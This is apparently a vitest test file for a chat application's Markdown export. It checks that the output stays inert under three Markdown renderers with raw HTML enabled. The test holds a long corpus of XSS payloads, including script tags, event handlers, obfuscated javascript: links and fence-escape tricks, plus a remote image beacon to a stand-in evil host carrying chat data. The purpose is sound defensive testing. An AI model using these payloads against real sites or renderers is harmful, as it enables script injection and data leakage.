// @vitest-environment jsdom
/**
 * The Markdown export opened where people open it: rendered by marked, commonmark.js and
 * markdown-it with raw HTML on, then parsed as a browser would (jsdom). For hostile text in every
 * part of the export, the page must hold no script, no event handler, no raw HTML element, no
 * link whose scheme is not http(s)/mailto/#, and no image (a remote image is a beacon).
 */
import * as commonmark from "commonmark";
import fc from "fast-check";
import MarkdownIt from "markdown-it";
import { marked } from "marked";
import { describe, expect, it } from "vitest";
import { inertMarkdown } from "./inert-markdown";
import { exportMarkdown } from "./markdown";
import { chat, HOSTILE_PARTS as PARTS } from "./testing/hostile-parts";

const markdownIt = new MarkdownIt({ html: true });
const RENDERERS: Record<string, (md: string) => string> = {
  marked: (md) => marked.parse(md, { async: false }),
  commonmark: (md) => new commonmark.HtmlRenderer({ safe: false }).render(new commonmark.Parser().parse(md)),
  "markdown-it": (md) => markdownIt.render(md),
};

/** What Markdown renderers produce by themselves; anything else came from raw HTML. */
const MARKDOWN_TAGS = new Set(
  "p h1 h2 h3 h4 h5 h6 a em strong code pre blockquote ul ol li hr br table thead tbody tr th td del s input".split(
    " ",
  ),
);
const URL_ATTRIBUTES = ["href", "src", "srcset", "action", "formaction", "xlink:href", "data", "poster", "background"];

/** Every way the rendered page could run script or reach the network on its own; [] when none. */
function hazards(html: string): string[] {
  // An inert template parses like a page body without running or loading anything; one window serves all.
  const template = document.createElement("template");
  template.innerHTML = html;
  const found: string[] = [];
  for (const el of template.content.querySelectorAll("*")) {
    const tag = el.tagName.toLowerCase();
    if (!MARKDOWN_TAGS.has(tag)) found.push(`<${tag}>`);
    if (tag === "input" && el.getAttribute("type") !== "checkbox") found.push("<input> not a task checkbox");
    for (const attr of el.getAttributeNames()) {
      if (attr.toLowerCase().startsWith("on")) found.push(`${tag}[${attr}]`);
    }
    for (const attr of URL_ATTRIBUTES) {
      const value = el.getAttribute(attr);
      if (value !== null && !allowedUrl(value)) found.push(`${tag}[${attr}=${value}]`);
    }
  }
  return found;
}

function allowedUrl(value: string): boolean {
  if (value.trim().startsWith("#")) return true;
  try {
    return ["http:", "https:", "mailto:"].includes(new URL(value, "https://export.invalid/").protocol);
  } catch {
    return false;
  }
}

function expectInert(md: string): void {
  for (const [name, render] of Object.entries(RENDERERS)) {
    const found = hazards(render(md));
    if (found.length > 0) expect.fail(`${name}: ${found.join(", ")}\n--- markdown ---\n${md}`);
  }
}

const BEACON = "https://evil.example/p.png?chat=secret";
/** Hostile text, each aimed at one way a renderer lets HTML, a script URL or an image through. */
const HOSTILE: readonly string[] = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "a <!-- open comment",
  "<iframe src=javascript:alert(1)></iframe>",
  "<svg onload=alert(1)>",
  "<style>body{background:url(https://evil.example/x)}</style>",
  "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
  "<link rel=stylesheet href=https://evil.example/x.css>",
  "<object data=https://evil.example/x></object><embed src=https://evil.example/x>",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](&#106;avascript:alert(1))",
  "[x](&#x6A;avascript&colon;alert(1))",
  "[x](jav&#x09;ascript:alert(1))",
  "[x](jav&Tab;ascript:alert(1))",
  "[x](javascript\\:alert(1))",
  "[x](<javascript:alert(1)>)",
  "[x](\njavascript:alert(1))",
  '[x]( javascript:alert(1) "t")',
  "[x](vbscript:msgbox(1))",
  "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[x](file:///etc/passwd)",
  "[x][r]\n\n[r]: javascript:alert(1)",
  "[x]\n\n[x]: &#106;avascript:alert(1)",
  "[x]\n\n[x]:\njavascript:alert(1)",
  "[x`]\n\n[x`]: javascript:alert(1) '`'",
  "- [y]\n\n- [y]: javascript:alert(1)",
  "> [z]\n>\n> [z]: javascript:alert(1)",
  "[multi\nline]\n\n[multi\nline]: javascript:alert(1)",
  "<javascript:alert(1)>",
  "<JAVASCRIPT:alert(1)>",
  "ftp://evil.example/x",
  "\\`<img src=x onerror=alert(1)>`",
  "\\\\`code` \\`<img src=x onerror=alert(1)>`",
  "`a\\`<img src=x onerror=alert(1)>`",
  "para\n    <img src=x onerror=alert(1)>",
  "para\n\n    <img src=x onerror=alert(1)>",
  "- item\n    <img src=x onerror=alert(1)>",
  "- item\n\n  ```\n<img src=x onerror=alert(1)>\n  ```",
  "1. a\n   ```\n   ok\n   ```\n<script>alert(1)</script>",
  "> quote\n<img src=x onerror=alert(1)>",
  "> ```\n<img src=x onerror=alert(1)>\n> ```",
  "```\ncode\n```~\n<img src=x onerror=alert(1)>\n```",
  "```\ncode\n``` x\n<img src=x onerror=alert(1)>\n```",
  "~~~\ncode\n~~~~\n<img src=x onerror=alert(1)>",
  "`x\ny` <img src=x onerror=alert(1)> `z`",
  "# a `b\nc <img src=x onerror=alert(1)> `d`",
  "[a](`x) <img src=x onerror=alert(1)> `y`",
  "[a](https://ok.example/`x) <img src=x onerror=alert(1)> `y`",
  "| a | b |\n|---|---|\n| `x | <img src=x onerror=alert(1)> | y` |",
  "| a | b |\n|---|---|\n| `a | b` <x> `<img src=x onerror=alert(1)>` |",
  "`a\r<script>alert(1)</script>`",
  "x\r\n<script>alert(1)</script>",
  `![x](${BEACON})`,
  `![x](<${BEACON}>)`,
  `![x][p]\n\n[p]: ${BEACON}`,
  `[![x](${BEACON})](https://ok.example)`,
  `<img src=${BEACON}>`,
  `\\![x](${BEACON}) and \\\\![y](${BEACON})`,
  "<a href=javascript:alert(1)>x</a>",
  "<div>\n\n<img src=x onerror=alert(1)>\n\n</div>",
  "</p><script>alert(1)</script>",
  "<?php echo 1; ?> <![CDATA[ x ]]> <!DOCTYPE x>",
  "| `<img src=x onerror=alert(1)>` | `a` |\n|---|---|\n| x | y |",
  '[a](https://x.example/&quot;onmouseover=alert(1)&quot;) [b](https://x.example/"onmouseover="alert(1))',
  '[a](https://x.example "t\\" onmouseover=alert(1))',
  "[a [b](https://ok.example) c](javascript:alert(1))",
  "foo\n[x]: javascript:alert(1)\n\n[x]",
  "1) [x]: javascript:alert(1)\n\n[x]",
  "www.evil.example/`x <img src=x onerror=alert(1)> `",
  "<scr<script>ipt>alert(1)</script>",
  "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
  // marked's GFM bare-URL autolink swallows the backslash of an escaped `<` (the flaky property failure,
  // `a[href=javascript:alert(1)%5C]`): `\<` must not be what keeps a tag or an autolink dead.
  "www.x.example/\\<javascript:alert(1)\\>",
  "https://a.example/\\<img src=x onerror=alert(1)>",
  "www.x.example/<javascript:alert(1)>",
];

describe("Markdown export under marked, commonmark and markdown-it (raw HTML on)", () => {
  it("the corpus itself is hostile: rendered raw, every renderer lets something through", () => {
    // Guards the checker: if it found nothing in the raw corpus, the tests below would prove nothing.
    for (const render of Object.values(RENDERERS)) {
      const live = HOSTILE.filter((h) => hazards(render(h)).length > 0);
      expect(live.length).toBeGreaterThan(HOSTILE.length / 3);
    }
  });

  for (const [part, build] of Object.entries(PARTS)) {
    it(`hostile ${part}: nothing live in any renderer`, () => {
      for (const h of HOSTILE) {
        expectInert(exportMarkdown(build(h), { allBranches: true }));
      }
    }, 60_000);
  }

  it("property: random text of Markdown and HTML metacharacters is inert in every renderer", () => {
    const piece = fc.constantFrom(
      ..."<>`\\[]()!:&#;|*_~-\n \t\r".split(""),
      "```",
      "~~~",
      "    ",
      "> ",
      "- ",
      "1. ",
      "img src=x onerror=alert(1)",
      "script",
      "javascript:alert(1)",
      "&#106;",
      "https://evil.example/p",
      "www.x.example/",
      "](",
      "]: ",
      "![",
      "| --- |",
      "x",
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 40 }), fc.constantFrom(...Object.keys(PARTS)), (pieces, part) => {
        const h = pieces.join("");
        expectInert(exportMarkdown(PARTS[part]?.(h) ?? chat([]), { allBranches: true }));
        expectInert(inertMarkdown(h));
      }),
      { numRuns: 500 },
    );
  }, 120_000);
});

describe("inertMarkdown keeps ordinary Markdown as it was", () => {
  it.each([
    ["plain **bold** and _em_", "plain **bold** and _em_"],
    ["use the `<div>` element", "use the `<div>` element"],
    ["``a ` <b>`` then <i>", "``a ` <b>`` then &lt;i>"],
    ["```html\n<p>kept</p>\n```\n<p>escaped</p>", "```html\n<p>kept</p>\n```\n\n&lt;p>escaped&lt;/p>"],
    ["1 < 2 and a -> b", "1 &lt; 2 and a -> b"],
    [
      "[ok](https://example.com) and [m](mailto:a@b.c) and [top](#top)",
      "[ok](https://example.com) and [m](mailto:a@b.c) and [top](#top)",
    ],
    ["[wiki](https://en.wikipedia.org/wiki/A_(b))", "[wiki](https://en.wikipedia.org/wiki/A_(b))"],
    ["[click](javascript:alert(1))", "[click\\](javascript:alert(1))"],
    [`![chart](${BEACON})`, `Image: [chart](${BEACON})`],
    ["[r]: javascript:x", "\\[r]: javascript:x"],
    ["an unclosed `tick <x>", "an unclosed `tick &lt;x>"],
    ["- a list\n  1. nested", "- a list\n  1. nested"],
  ])("%j", (input, output) => {
    expect(inertMarkdown(input)).toBe(output);
  });

  it("re-emits a fence at column 0 with a fence no line inside can close, and closes one left open", () => {
    expect(inertMarkdown("- step\n  ```sh\n  echo <x>\n  ```\n- next")).toBe(
      "- step\n\n```sh\necho <x>\n```\n\n- next",
    );
    expect(inertMarkdown("````md\n```\ninner")).toBe("````md\n```\ninner\n````");
    expect(inertMarkdown("```\ncode\n```~\n<b>")).toBe("````\ncode\n```~\n<b>\n````");
  });
});
